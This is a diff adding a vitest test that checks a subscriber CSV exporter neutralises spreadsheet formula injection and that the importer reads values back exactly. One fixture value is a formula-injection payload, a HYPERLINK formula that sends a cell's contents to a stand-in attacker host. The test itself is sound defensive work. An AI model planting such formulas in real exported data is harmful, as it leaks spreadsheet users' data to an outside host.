@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { openDatabase, type StoreHandle } from '../../src/store/open-database.ts';
 import { createSubscriberStore, type SubscriberStore } from '../../src/store/subscriber-store.ts';
@@ -80,5 +81,34 @@ describe.each(DIALECTS)('exportSubscribersCsv on %s', (dialect) => {
     expect(problems).toEqual([]);
     expect(rows).toHaveLength(total);
     expect(rows[7]).toEqual({ line: 9, email: 'reader7@example.com', name: 'Reader "7", Esq.' });
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and the importer reads the values back exactly', async () => {
+    const people = [
+      { email: '=cmd@example.com', name: '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")' },
+      { email: '-minus@example.com', name: '-2+3' },
+      { email: '+plus@example.com', name: '+1 555 0100' },
+      { email: 'at@example.com', name: '@SUM(A1:A9)' },
+      { email: 'quoted@example.com', name: "'=already quoted" },
+      { email: 'apostrophe@example.com', name: "'Tis the season" },
+    ];
+    for (const person of people) await store.add({ ...person, status: 'active', source: 'signup' });
+    const { text } = await exportAll();
+    const cells = (parse(text) as string[][]).slice(1).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    const byEmail = Object.fromEntries((parse(text) as string[][]).slice(1).map((row) => [row[0], row[1]]));
+    expect(byEmail["'=cmd@example.com"]).toBe('\'=HYPERLINK("https://evil.example/?d="&A1,"Invoice")');
+    expect(byEmail["'-minus@example.com"]).toBe("'-2+3");
+    expect(byEmail["'+plus@example.com"]).toBe("'+1 555 0100");
+    expect(byEmail['at@example.com']).toBe("'@SUM(A1:A9)");
+    expect(byEmail['quoted@example.com']).toBe("''=already quoted");
+    expect(byEmail['apostrophe@example.com']).toBe("'Tis the season");
+
+    const { rows, problems } = parseSubscriberCsv(text, 'export.csv');
+    expect(problems).toEqual([]);
+    const byAddress = (a: { email: string }, b: { email: string }) => a.email.localeCompare(b.email);
+    expect(rows.map(({ email, name }) => ({ email, name })).sort(byAddress)).toEqual(
+      [...people].sort(byAddress),
+    );
   });
 });
